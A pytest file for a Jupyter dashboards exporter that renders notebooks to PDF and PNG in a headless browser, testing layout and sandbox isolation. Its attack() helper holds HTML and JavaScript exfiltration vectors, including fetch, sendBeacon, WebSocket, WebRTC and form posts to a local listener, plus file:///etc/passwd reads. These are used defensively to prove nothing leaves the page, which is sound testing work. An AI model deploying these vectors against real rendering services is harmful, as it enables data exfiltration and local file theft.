"""Pages as PDF and PNG by a real browser, and what it is never let to do."""

from __future__ import annotations

import asyncio
import base64
import io
from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output
from PIL import Image
from pypdf import PdfReader

from jupyter_dashboards_api.conversion.browser import (
    ConversionFailed,
    NoBrowser,
    PageBrowser,
    find_executable,
)
from jupyter_dashboards_api.conversion.exporter import PageExporter
from jupyter_dashboards_api.conversion.page import MemoryPage
from tests.browser.attacks import HTML, bundles

from .conftest import MakePage

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"

pytestmark = [pytest.mark.browser, pytest.mark.timeout(120)]


def pdf(data: bytes) -> PdfReader:
    return PdfReader(io.BytesIO(data))


def picture(data: bytes) -> Image.Image:
    return Image.open(io.BytesIO(data)).convert("RGB")


def html_output(text: str) -> Any:
    return new_code_cell("", outputs=[new_output("display_data", {"text/html": text})])


def red(side: int) -> str:
    return f'<div style="width:{side}px;height:{side}px;background:rgb(255,0,0)"></div>'


async def test_a_report_is_a4_pages_with_no_cell_cut(browser: PageBrowser, page: MakePage) -> None:
    cells = [
        html_output(f"<p>cell {i}</p><div style='height:500px'></div>end {i}") for i in range(7)
    ]
    read = pdf(await browser.draw(page(*cells), "pdf"))
    texts = [sheet.extract_text() for sheet in read.pages]
    assert len(texts) == 4
    for number in range(7):
        assert any(f"cell {number}" in text and f"end {number}" in text for text in texts)
    assert [round(float(side)) for side in read.pages[0].mediabox[2:]] == [596, 843]


async def test_a_grid_is_one_page_of_the_contents_size(
    browser: PageBrowser, exporter: PageExporter
) -> None:
    notebook = nbformat.read(EXAMPLES / "city-bikes.ipynb", as_version=4)
    made = exporter.page(notebook, "x.ipynb", is_note=False, show_code=False, trusted=False)
    assert made.is_board
    read = pdf(await browser.draw(made, "pdf"))
    assert len(read.pages) == 1
    assert "Central Station" in read.pages[0].extract_text()
    drawn = picture(await browser.draw(made, "png"))
    assert drawn.width == 1100
    # The one sheet is about as tall as the picture.
    assert 0.7 < float(read.pages[0].mediabox.height) * 96 / 72 / drawn.height < 1.4


def striped(height: int, board: bool = False) -> MemoryPage:
    """A page with another colour for each thousand pixels."""
    rows = "".join(
        f"<div style='height:1000px;background:rgb({row},{row * 7 % 256},9)'>{row}</div>"
        for row in range(height // 1000)
    )
    html = f"<!doctype html><body data-ready style='margin:0'>{rows}</body>"
    return MemoryPage(html.encode(), "", is_board=board, lookup=lambda path: None)


async def test_a_tall_page_is_one_picture_with_nothing_left_out(browser: PageBrowser) -> None:
    drawn = picture(await browser.draw(striped(73_000), "png"))
    assert drawn.size == (1100, 73_000)
    seen = [drawn.getpixel((500, y)) for y in range(900, drawn.height, 1000)]
    assert seen == [(row, row * 7 % 256, 9) for row in range(73)]


async def test_a_page_that_is_too_tall_is_refused_with_what_to_use_instead(
    own_browser: PageBrowser,
) -> None:
    own_browser.max_height = 5000
    with pytest.raises(ConversionFailed, match=r"6000 pixels tall.* 5000: use fileFormat pdf"):
        await own_browser.draw(striped(6000), "png")
    assert len(pdf(await own_browser.draw(striped(6000), "pdf")).pages) > 2
    with pytest.raises(ConversionFailed, match=r"200000 pixels tall.*: use fileFormat html"):
        await own_browser.draw(striped(200_000, board=True), "pdf")
    whole = pdf(await own_browser.draw(striped(150_000, board=True), "pdf"))
    assert len(whole.pages) == 1
    assert "149" in whole.pages[0].extract_text().split()


@pytest.mark.parametrize("place", ["output", "markdown"])
async def test_what_is_wider_than_the_page_is_made_smaller_not_cut(
    browser: PageBrowser, page: MakePage, place: str
) -> None:
    cells = "".join(f"<td>column {number} of a wide table</td>" for number in range(25))
    last = "<td><div style='width:70px;height:70px;background:rgb(255,0,0)'></div></td>"
    table = f"<table><tr>{cells}{last}</tr></table>"
    cell = html_output(table) if place == "output" else new_markdown_cell(table)
    drawn = picture(await browser.draw(page(cell, new_markdown_cell("# Others")), "png"))
    assert (255, 0, 0) in {colour for _, colour in drawn.getcolors(1 << 24) or []}
    read = pdf(await browser.draw(page(cell), "pdf"))
    # The sheet's width in the units of text, which says where it begins.
    begins: list[float] = []
    read.pages[0].extract_text(
        visitor_text=lambda text, cm, tm, *_: begins.append(
            tm[4] * cm[0] + tm[5] * cm[2] + cm[4] if text.strip() else 0
        )
    )
    assert 300 < max(begins) < float(read.pages[0].mediabox.width)


@pytest.mark.parametrize("kind", ["png", "pdf"])
async def test_a_cell_that_is_taller_than_its_box_in_the_grid_is_whole(
    browser: PageBrowser, page: MakePage, kind: Any
) -> None:
    def view(**options: Any) -> dict[str, Any]:
        return {"extensions": {"jupyter_dashboards": {"version": 1, "views": {"g": options}}}}

    box = {"hidden": False, "col": 0, "width": 12}
    tall = html_output("<div style='height:1500px'></div><p>the last words</p>" + red(70))
    tall.metadata = nbformat.from_dict(view(row=0, height=4, **box))
    below = new_markdown_cell("below it", metadata=view(row=4, height=2, **box))
    metadata = view(type="grid", maxColumns=12, defaultCellHeight=20)
    metadata["extensions"]["jupyter_dashboards"]["activeView"] = "g"
    made = page(tall, below, metadata=metadata, is_note=False, trusted=True)
    assert made.is_board
    data = await browser.draw(made, kind)
    if kind == "png":
        drawn = picture(data)
        assert (255, 0, 0) in {colour for _, colour in drawn.getcolors(1 << 24) or []}
        assert 1500 < drawn.height < 1800
    else:
        text = pdf(data).pages[0].extract_text()
        assert text.index("the last words") < text.index("below it")


async def test_a_short_page_has_no_empty_rest(browser: PageBrowser, page: MakePage) -> None:
    assert picture(await browser.draw(page(new_markdown_cell("# One line")), "png")).height < 120


async def test_pictures_below_the_first_window_are_drawn(
    browser: PageBrowser, page: MakePage
) -> None:
    cells = []
    for _ in range(8):
        made = io.BytesIO()
        # Large enough to take a while to be unpacked.
        Image.effect_noise((500, 500), 90).convert("RGB").save(made, "png")
        data = {"image/png": base64.b64encode(made.getvalue()).decode()}
        cells.append(new_code_cell("", outputs=[new_output("display_data", data)]))
    drawn = picture(await browser.draw(page(*cells), "png"))
    step = drawn.height // 48
    blank = [
        top
        for top in range(0, drawn.height - step, step)
        if drawn.crop((50, top, 450, top + step)).getextrema()[0] == (255, 255)
    ]
    assert blank == []


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("plotly", ["Where the power came from", "May 8, 2025"]),
        ("altair", ["apples, kg a year", "Discovery"]),
        ("mathematics", ["One, three and fifteen terms", "cases"]),
    ],
)
async def test_charts_and_formulas_are_drawn(
    browser: PageBrowser, exporter: PageExporter, name: str, words: list[str]
) -> None:
    notebook = nbformat.read(EXAMPLES / f"{name}.ipynb", as_version=4)
    made = exporter.page(notebook, "x.ipynb", is_note=True, show_code=False, trusted=False)
    read = pdf(await browser.draw(made, "pdf"))
    text = " ".join(sheet.extract_text() for sheet in read.pages)
    if name == "mathematics":
        # As text the formula would still have its commands.
        assert "\\frac" not in text
        assert "KaTeX" in str(
            [
                f
                for s in read.pages
                for f in s["/Resources"]["/Font"].values()
                for f in [f.get_object()["/BaseFont"]]
            ]
        )
    else:
        for word in words:
            assert word in text


def attack(home: str) -> str:
    """Everything that could leave a page, or take a file into it."""
    port = home.rpartition(":")[2]
    return f"""
<link rel=preconnect href="{home}"><link rel=dns-prefetch href="{home}"><link rel=prefetch href="{home}/prefetch">
<link rel=stylesheet href="{home}/sheet.css"><style>@font-face{{font-family:x;src:url({home}/font.woff)}}
p{{font-family:x;background:url({home}/back.png)}}</style><p>x</p>
<img src="{home}/image.png"><img src="file:///etc/hostname"><iframe src="{home}/frame" width=900 height=300></iframe>
<iframe src="file:///etc/passwd" width=900 height=300></iframe><object data="file:///etc/passwd" width=900 height=300></object>
<embed src="file:///etc/passwd" width=900 height=300><video src="{home}/video"></video>
<meta http-equiv=refresh content="0;url={home}/refresh">
<script>
const go = (work) => {{ try {{ const p = work(); if (p && p.catch) p.catch(() => 0); }} catch {{}} }};
go(() => fetch("{home}/fetch", {{mode: "no-cors"}}));
go(() => fetch("file:///etc/passwd").then((r) => r.text()).then((t) => document.body.append(t)));
go(() => new WebSocket("ws://127.0.0.1:{port}/socket"));
go(() => navigator.sendBeacon("{home}/beacon", "x"));
go(() => new Worker(URL.createObjectURL(new Blob(["fetch('{home}/worker')"]))));
go(() => new SharedWorker("{home}/shared.js"));
go(() => navigator.serviceWorker.register("/sw.js"));
go(() => new EventSource("{home}/events"));
go(() => new WebTransport("https://127.0.0.1:{port}/transport"));
go(() => open("{home}/open"));
go(() => import("{home}/module.js"));
go(() => {{ const x = new XMLHttpRequest(); x.open("GET", "{home}/xhr"); x.send(); }});
go(() => {{ const c = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{port}"}}]}});
  c.createDataChannel("x"); return c.createOffer().then((o) => c.setLocalDescription(o)); }});
go(() => {{ const f = document.createElement("iframe"); document.body.append(f);
  const c = new f.contentWindow.RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{port}"}}]}});
  c.createDataChannel("x"); return c.createOffer().then((o) => c.setLocalDescription(o)); }});
go(() => {{ const f = document.createElement("form"); f.action = "{home}/form"; f.method = "post"; document.body.append(f); f.submit(); }});
document.body.dataset.attacked = "";
</script>{"".join(HTML.values()).replace("{home}", home)}"""


class Listener:
    """Counts what arrives at a port, by TCP and by UDP."""

    def __init__(self) -> None:
        self.arrived: list[str] = []

    async def start(self) -> str:
        async def met(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            self.arrived.append("TCP")
            writer.close()

        self._server = await asyncio.start_server(met, "127.0.0.1", 0)
        port = self._server.sockets[0].getsockname()[1]
        arrived = self.arrived

        class Datagrams(asyncio.DatagramProtocol):
            def datagram_received(self, data: bytes, addr: Any) -> None:
                arrived.append("UDP")

        loop = asyncio.get_running_loop()
        self._udp, _ = await loop.create_datagram_endpoint(
            Datagrams, local_addr=("127.0.0.1", port)
        )
        return f"http://127.0.0.1:{port}"

    def stop(self) -> None:
        self._server.close()
        self._udp.close()


def bare(html: str) -> MemoryPage:
    """A page with nothing of ours to protect it: no policy, no sanitiser."""
    page = f"<!doctype html><body data-ready>{html}</body>"
    return MemoryPage(page.encode(), "", is_board=False, lookup=lambda path: None)


VIEW = {"application/vnd.jupyter.widget-view+json": {"model_id": "bad"}}


def html_widget(html: str) -> dict[str, Any]:
    """Metadata with the state of a widget that shows HTML."""
    model = {
        "model_name": "HTMLModel",
        "model_module": "@jupyter-widgets/controls",
        "model_module_version": "2.0.0",
        "state": {"value": html, "description": html, "_view_name": "HTMLView"},
    }
    form = "application/vnd.jupyter.widget-state+json"
    return {"widgets": {form: {"version_major": 2, "version_minor": 0, "state": {"bad": model}}}}


@pytest.mark.parametrize("kind", ["as it is", "trusted", "untrusted"])
async def test_of_the_attack_page_nothing_arrives_and_no_file_is_in_the_picture(
    own_browser: PageBrowser, page: MakePage, kind: str
) -> None:
    listener = Listener()
    home = await listener.start()
    try:
        if kind == "as it is":
            made = bare(attack(home))
        else:
            cells = [html_output(attack(home)), new_markdown_cell(attack(home))]
            cells += [
                new_code_cell("", outputs=[new_output("display_data", bundle)])
                for bundle in bundles(home).values()
            ]
            cells.append(new_code_cell("", outputs=[new_output("display_data", VIEW)]))
            made = page(*cells, trusted=kind == "trusted", metadata=html_widget(attack(home)))
            assert "dash-widgets" in made.html.decode()
        own_browser.settle_timeout = 1
        read = pdf(await own_browser.draw(made, "pdf"))
        text = " ".join(sheet.extract_text() for sheet in read.pages)
        assert "root:" not in text
        await own_browser.draw(made, "png")
        assert listener.arrived == []
    finally:
        listener.stop()


@pytest.mark.parametrize(
    "script",
    [
        "location = 'http://127.0.0.1:9/x'",
        "setTimeout(() => { location = 'http://127.0.0.1:9/x' }, 50)",
        "onload = () => document.forms[0].submit()",
        "location.reload()",
    ],
)
async def test_a_page_that_wants_to_be_elsewhere_is_drawn_as_it_is(
    own_browser: PageBrowser, script: str
) -> None:
    own_browser.settle_timeout = 1
    form = "<form action='http://127.0.0.1:9/form' method=post></form>"
    html = f"{red(60)}{form}<script>{script}</script><p aria-busy=true>"
    drawn = picture(await own_browser.draw(bare(html), "png"))
    assert drawn.getpixel((20, 20)) == (255, 0, 0)


async def test_without_a_browser_the_error_names_what_to_install(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, page: MakePage
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.setenv("PLAYWRIGHT_BROWSERS_PATH", str(tmp_path))
    with pytest.raises(NoBrowser, match="install chromium-headless-shell or chromium") as refused:
        await PageBrowser().draw(page(), "pdf")
    assert refused.value.status == 422


def test_the_browser_is_found_where_debian_and_playwright_put_it(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    def put(name: str) -> str:
        file = tmp_path / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text("")
        file.chmod(0o755)
        return str(file)

    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.setenv("PLAYWRIGHT_BROWSERS_PATH", str(tmp_path / "own"))
    assert find_executable() is None
    own = put("own/chromium-1200/chrome-linux/chrome")
    assert find_executable() == own
    full = put("chromium")
    assert find_executable() == full
    shell = put("chromium-headless-shell")
    assert find_executable() == shell
    assert find_executable(full) == full
    assert find_executable("nowhere") is None


async def test_a_pictures_bytes_are_in_the_page(browser: PageBrowser, page: MakePage) -> None:
    square = io.BytesIO()
    Image.new("RGB", (40, 40), (0, 0, 255)).save(square, "png")
    data = {"image/png": base64.b64encode(square.getvalue()).decode()}
    cell = new_code_cell("", outputs=[new_output("display_data", data)])
    drawn = picture(await browser.draw(page(cell), "png"))
    assert any(color == (0, 0, 255) for _, color in drawn.getcolors(1 << 24) or [])


def bokeh_cells() -> list[Any]:
    """What bokeh's `output_notebook` and `show` leave, by hand: scripts that draw into an element of another output."""
    load = (
        "window.Drawing = (id) => { document.getElementById(id).innerHTML = `" + red(60) + "`; };"
    )
    bundles = [
        {"application/javascript": load, "application/vnd.bokehjs_load.v0+json": load},
        {"text/html": '<div id="place"></div>'},
        {"application/javascript": "Drawing('place')", "application/vnd.bokehjs_exec.v0+json": ""},
    ]
    return [new_code_cell("", outputs=[new_output("display_data", each) for each in bundles])]


@pytest.mark.parametrize(
    "cells",
    [bokeh_cells(), [html_output(f"<p id=x></p><script>x.innerHTML = `{red(60)}`</script>")]],
    ids=["bokeh", "html"],
)
async def test_authors_scripts_run_in_trusted_notebooks_only(
    browser: PageBrowser, page: MakePage, cells: list[Any]
) -> None:
    seen = {}
    for trusted in (True, False):
        drawn = picture(await browser.draw(page(*cells, trusted=trusted), "png"))
        seen[trusted] = any(color == (255, 0, 0) for _, color in drawn.getcolors(1 << 24) or [])
    assert seen == {True: True, False: False}
